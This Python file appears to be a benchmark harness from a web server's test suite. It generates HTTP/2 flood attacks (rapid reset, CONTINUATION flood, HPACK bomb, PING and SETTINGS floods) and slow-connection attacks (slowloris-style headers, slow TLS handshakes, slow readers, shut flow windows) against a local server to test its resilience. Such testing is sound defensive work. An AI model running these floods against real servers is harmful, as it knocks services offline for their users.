"""Who attacks, for attacks.py: each runs on the client's core, behind everybody else, until it is ended. Their bytes are made beforehand.

    tests/bench/attackers.py NAME PORT TLS_PORT"""
import select
import socket
import ssl
import struct
import sys
import threading
import time

from servers import ROOT, allow_descriptors

sys.path.insert(0, str(ROOT / "tests/e2e"))
from harness import h2  # noqa: E402
from harness.h2 import END_HEADERS, END_STREAM, block, frame, literal, request, settings  # noqa: E402

HOT, LARGE = "/s/1024/hot", "/s/5000000/large"
MANY = 2000  # of anything within one connection
HELD = 2000  # connections that only wait
READERS = 200  # of those who ask for what they do not read: the kernel keeps some MB for each
BEGIN_SECONDS = 0.002  # between two of them: what they cost is to be that they stay
STREAMS = 100  # of a connection whose windows are shut
SMALL_BUFFER_BYTES = 4096


def connect(port, receive_buffer=None):
    client = socket.socket()
    if receive_buffer:
        client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
    client.connect(("127.0.0.1", port))
    return client


# ---- those that say too much: one connection after the other, each until the server ends it -----------------------------------------------


def drain(client):
    try:
        while client.recv(1 << 18):
            pass
    except OSError:
        pass


def flood(port, said):
    while True:
        client = connect(port)
        reader = threading.Thread(target=drain, args=(client,))
        reader.start()
        try:
            client.sendall(said)
            client.shutdown(socket.SHUT_WR)
        except OSError:
            pass
        reader.join()
        client.close()


def requests(count, path, after=lambda stream: b""):
    """Each with what follows it."""
    return b"".join(frame(h2.HEADERS, END_HEADERS | END_STREAM, stream, block(request(path))) + after(stream) for stream in range(1, 2 * count, 2))


HELLO = h2.PREFACE + settings()
BOMB = b"\x40" + h2.number(1) + b"x" + h2.number(3900) + b"y" * 3900 + b"\xbe" * 12000  # a large field, then a byte for each time that it is there again
FLOODS = {
    "rapid reset": lambda: requests(MANY, HOT, h2.reset),
    "resets provoked": lambda: requests(MANY, HOT, lambda stream: h2.window_update(stream, 0)),
    "CONTINUATION": lambda: frame(h2.HEADERS, END_STREAM, 1, block(request(HOT))) + frame(h2.CONTINUATION, 0, 1, literal("x", "y")) * MANY,
    "HPACK bomb": lambda: frame(h2.HEADERS, END_HEADERS | END_STREAM, 1, block(request(HOT)) + BOMB),
    "PING": lambda: frame(h2.PING, payload=b"12345678") * MANY,
    "SETTINGS": lambda: settings((h2.MAX_CONCURRENT_STREAMS, 1)) * MANY,
    "PRIORITY_UPDATE": lambda: frame(h2.PRIORITY_UPDATE, 0, 0, struct.pack(">I", 1) + b"u=1") * MANY,
    "empty DATA": lambda: frame(h2.HEADERS, END_HEADERS, 1, block(request(HOT, "POST"))) + frame(h2.DATA, 0, 1) * MANY,
}

# ---- those that wait: as many as there may be, one that is closed is begun again ----------------------------------------------------------


def begin(port, said, receive_buffer=None):
    client = connect(port, receive_buffer)
    client.sendall(said)
    return client


def begin_tls(port, said):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    client = context.wrap_socket(connect(port, SMALL_BUFFER_BYTES))
    client.sendall(said)
    return client


def ask(path):
    return f"GET {path} HTTP/1.1\r\nHost: site.test\r\n\r\n".encode()


SHUT = h2.PREFACE + settings((h2.INITIAL_WINDOW_SIZE, 0)) + requests(STREAMS, LARGE)
HOLDERS = {
    "slow handshakes": (HELD, lambda port, tls_port: begin(tls_port, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")),
    "slow heads": (HELD, lambda port, tls_port: begin(port, b"GET / HTTP/1.1\r\nHost: site.test\r\nX-A: ")),
    "slow readers": (READERS, lambda port, tls_port: begin(port, ask(LARGE), SMALL_BUFFER_BYTES)),
    "slow readers by TLS": (READERS, lambda port, tls_port: begin_tls(tls_port, ask(LARGE))),
    "windows that are shut": (READERS, lambda port, tls_port: begin(port, SHUT, SMALL_BUFFER_BYTES)),
}


def hold(count, begin_one):
    poll, held = select.poll(), {}
    while True:
        while len(held) < count:
            try:
                client = begin_one()
            except OSError:
                time.sleep(0.1)
                continue
            held[client.fileno()] = client
            poll.register(client.fileno(), select.POLLRDHUP)
            time.sleep(BEGIN_SECONDS)
        for number, _ in poll.poll(1000):
            poll.unregister(number)
            held.pop(number).close()


def main():
    name, port, tls_port = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    allow_descriptors()
    if name in FLOODS:
        flood(port, HELLO + FLOODS[name]())
    count, begin_one = HOLDERS[name]
    hold(count, lambda: begin_one(port, tls_port))


if __name__ == "__main__":
    main()
